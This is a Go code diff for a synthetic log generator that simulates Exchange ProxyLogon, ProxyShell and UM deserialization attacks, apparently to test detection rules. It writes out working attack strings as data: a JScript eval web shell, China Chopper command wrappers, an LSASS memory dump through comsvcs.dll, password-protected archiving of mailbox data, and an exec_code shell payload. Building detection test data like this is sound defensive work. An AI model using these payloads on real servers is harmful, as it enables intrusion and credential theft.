@@ -4,6 +4,7 @@ import (
 	"encoding/base64"
 	"net/url"
 	"strconv"
+	"strings"
 	"time"
 )
 
@@ -229,6 +230,7 @@ func (g *gen) ssrfAnchor(user, path string) string {
 // proxyLogonFull is the 7-step ProxyLogon chain (PoC request shapes) with
 // a working OAB-vdir web shell, then its use.
 func (g *gen) proxyLogonFull(t int64) {
+	t0 := t
 	ip, ua := g.attackerIP(), uaChrome89
 	js := "/ecp/" + g.randString(1+g.rng.IntN(3), alnum) + ".js"
 	canary := g.canary()
@@ -276,6 +278,9 @@ func (g *gen) proxyLogonFull(t int64) {
 	// 5: write the script into ExternalUrl.
 	r = ddi("SetObject", "OABVirtualDirectory")
 	script := `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>`
+	g.cmdletEvent(t+300, "Set-OabVirtualDirectory", `-Identity "`+g.name+`\OAB (Default Web Site)" -ExternalUrl "`+script+`"`,
+		"contoso.com/Users/Administrator", "ECP.MSExchangeECPAppPool",
+		evExpect{ruleVdirEvent, persist}, evExpect{sigmaOabVdir, execute}, evExpect{sigmaSetOabURL, persist})
 	r.ecp = g.ecpEventData(187, adminSID, "Set-OabVirtualDirectory.ExternalUrl='"+script+"'.Identity="+ident, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary="+canary+"&schema=OABVirtualDirectory")
 	g.send(r.expect(logFE, ruleEcpJS, exploit).expect(logProxy, ruleSSRF, persist).expect(logECP, ruleSetVdir, persist))
 
@@ -294,12 +299,49 @@ func (g *gen) proxyLogonFull(t int64) {
 	t += g.jitter(5*minute, 40*minute)
 	r = g.hit(t, ip, ua, "GET", "/owa/auth/"+shell, "", pNone)
 	g.send(r.expect(logFE, ruleShellAspx, persist))
-	for range 3 + g.rng.IntN(4) {
+	for i := range 3 + g.rng.IntN(4) {
 		t += g.jitter(30*second, 8*hour)
 		r = g.hit(t, ip, uaAntSword, "POST", "/owa/auth/"+shell, "", pNone)
 		r.respBytes = 2200 + g.rng.IntN(9000)
 		g.send(r.expect(logFE, ruleShellAspx, execute).expect(logFE, ruleVolexityUA, attempt))
+		g.chopperCommand(t+g.jitter(50, 900), i)
 	}
+	g.umExploitAttempt(g.jitter(g.start+hour, t0-hour))
+}
+
+// chopperCommand is the process a China Chopper POST starts: cmd.exe under
+// the OWA pool's w3wp, with the shell's "&echo [S]&cd&echo [E]" wrapper;
+// some commands start a program of their own.
+func (g *gen) chopperCommand(t int64, i int) {
+	dir := `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth`
+	wrap := func(c string) string { return `cmd /c "cd /d "` + dir + `"&` + c + `&echo [S]&cd&echo [E]"` }
+	shellHits := []evExpect{{ruleWorkerChild, execute}, {sigmaChopper, execute}, {sigmaWebChild, persist}}
+	sys := `NT AUTHORITY\SYSTEM`
+	switch i {
+	case 2:
+		dump := `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump ` + strconv.Itoa(600+g.rng.IntN(100)) + ` C:\windows\temp\lsass.dmp full`
+		g.proc(t, imgCmd, wrap(dump), imgW3wp, w3wpCmdline("MSExchangeOWAAppPool"), sys,
+			append(shellHits, evExpect{ruleLsassDump, execute}, evExpect{sigmaComsvcs, execute})...)
+		g.proc(t+40, imgRundll, dump, imgCmd, wrap(dump), sys, evExpect{ruleLsassDump, execute}, evExpect{sigmaComsvcs, execute})
+	case 3:
+		zip := `C:\ProgramData\7z.exe a -t7z -mx9 C:\ProgramData\it.zip C:\ProgramData\pst -pQwerty123`
+		g.proc(t, imgCmd, wrap(zip), imgW3wp, w3wpCmdline("MSExchangeOWAAppPool"), sys, append(shellHits, evExpect{sigmaHafnium, execute})...)
+		g.proc(t+40, `C:\ProgramData\7z.exe`, zip, imgCmd, wrap(zip), sys, evExpect{ruleArchive, collect}, evExpect{sigmaHafnium, execute})
+	default:
+		c := []string{"whoami", "ipconfig /all", "", "", `net group "Exchange Trusted Subsystem" /domain`, "tasklist"}[min(i, 5)]
+		g.proc(t, imgCmd, wrap(c), imgW3wp, w3wpCmdline("MSExchangeOWAAppPool"), sys, shellHits...)
+	}
+}
+
+// umExploitAttempt is CVE-2021-26857 failing against Unified Messaging:
+// the deserialization error and the worker's crash report.
+func (g *gen) umExploitAttempt(t int64) {
+	g.appEvent(t, "MSExchange Unified Messaging", 1051, 2, 0xc000, []string{"UMWorkerProcess.exe",
+		"An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCommon.UMPartnerMessage'.\r\n   at Microsoft.Exchange.UM.UMCore.UMServiceBase.ProcessMessage(Object state)"},
+		evExpect{ruleUMCast, attempt})
+	g.appEvent(t+1200, "MSExchange Common", 4999, 2, 0xc000, []string{"Watson report about to be sent for process id: 7312, with parameters: E12IIS, c-RTL-AMD64, 15.01.2176.002, UMWorkerProcess, M.Exchange.UM.UMCore, M.E.U.U.UMServiceBase.ProcessMessage, System.InvalidCastException, 80b3, 15.01.2176.002."},
+		evExpect{ruleUMCrash, attempt})
+	g.proc(t+1500, imgWerFault, `C:\Windows\system32\WerFault.exe -u -p 7312 -s 2104`, imgUMWorker, `"`+imgUMWorker+`" 1235 1236`, `NT AUTHORITY\SYSTEM`)
 }
 
 // scanBurst is a scanner run: the nmap ProxyLogon check (x.js with an
@@ -460,11 +502,21 @@ func (g *gen) proxyShell(t int64) {
 		g.send(r.expect(logRps, ruleRpsClient, exploit))
 	}
 	ps(step(), "Create", "")
+	// The MSExchange Management log has each cmdlet too. SigmaHQ's rules
+	// for it look for " -Mailbox ", " -Role ..." and " -Identity " with a
+	// leading space, as in a rendered message; the event's parameters value
+	// starts with that switch, so they do not fire here.
+	mgmtExp := map[string][]evExpect{
+		"New-ManagementRoleAssignment": {{ruleImportRole, persist}},
+		"New-MailboxExportRequest":     {{ruleExport, persist}},
+		"Remove-MailboxExportRequest":  {{ruleRemoveExport, persist}},
+	}
 	cmd := func(name, params, rule string) {
 		ps(step(), "Command", name)
 		took := 200 + g.rng.IntN(3000)
 		t += int64(took)
 		c := &cmdlet{user: victim, sid: domainSID + "500", name: name, params: params, success: true, processID: pid, runspaceTag: "Remote"}
+		g.cmdletEvent(t+5, name, strings.ReplaceAll(params, "'", `"`), "contoso.com/Users/Administrator", "Remote-PowerShell-Unknown", mgmtExp[name]...)
 		g.at(t, func(t int64) {
 			rel, n := g.put(g.streams[stRpsCmdlet], t, g.cmdletLine(t, c, took))
 			if rule != "" {
@@ -477,7 +529,7 @@ func (g *gen) proxyShell(t int64) {
 	cmd("New-MailboxExportRequest", "-Mailbox '"+victim+"' -IncludeFolders '#Drafts#' -ContentFilter \"Subject -eq '"+subject+"'\" -FilePath '\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\"+subject+".aspx'", ruleExport)
 	t += g.jitter(30*second, 3*minute)
 	cmd("Get-MailboxExportRequest", "-Mailbox '"+victim+"'", "")
-	cmd("Remove-MailboxExportRequest", "-Identity '"+victim+"\\MailboxExport' -Confirm:'False'", ruleRemoveExport)
+	cmd("Remove-MailboxExportRequest", "-Identity '"+victim+"\\MailboxExport' -Confirm 'False'", ruleRemoveExport)
 	ps(step(), "Delete", "")
 
 	shell := "/aspnet_client/" + subject + ".aspx"
@@ -489,6 +541,10 @@ func (g *gen) proxyShell(t int64) {
 		q := "exec_code=Response.Write(new+ActiveXObject(%22WScript.Shell%22).exec(%22cmd.exe+/c+" + c + "%22).StdOut.ReadAll());"
 		r = g.hit(t, ip, uaPyReq225, "GET", shell, q, pNone)
 		g.send(r.expect(logFE, ruleShellAspx, execute))
+		// WScript.Shell's Exec under the Default Web Site's pool
+		inner := strings.ReplaceAll(strings.ReplaceAll(c, "+", " "), "%22", `"`)
+		g.proc(t+g.jitter(30, 600), imgCmd, "cmd.exe /c "+inner, imgW3wp, w3wpCmdline("DefaultAppPool"), `NT AUTHORITY\SYSTEM`,
+			evExpect{ruleWorkerChild, execute}, evExpect{sigmaWebChild, persist})
 	}
 }
 
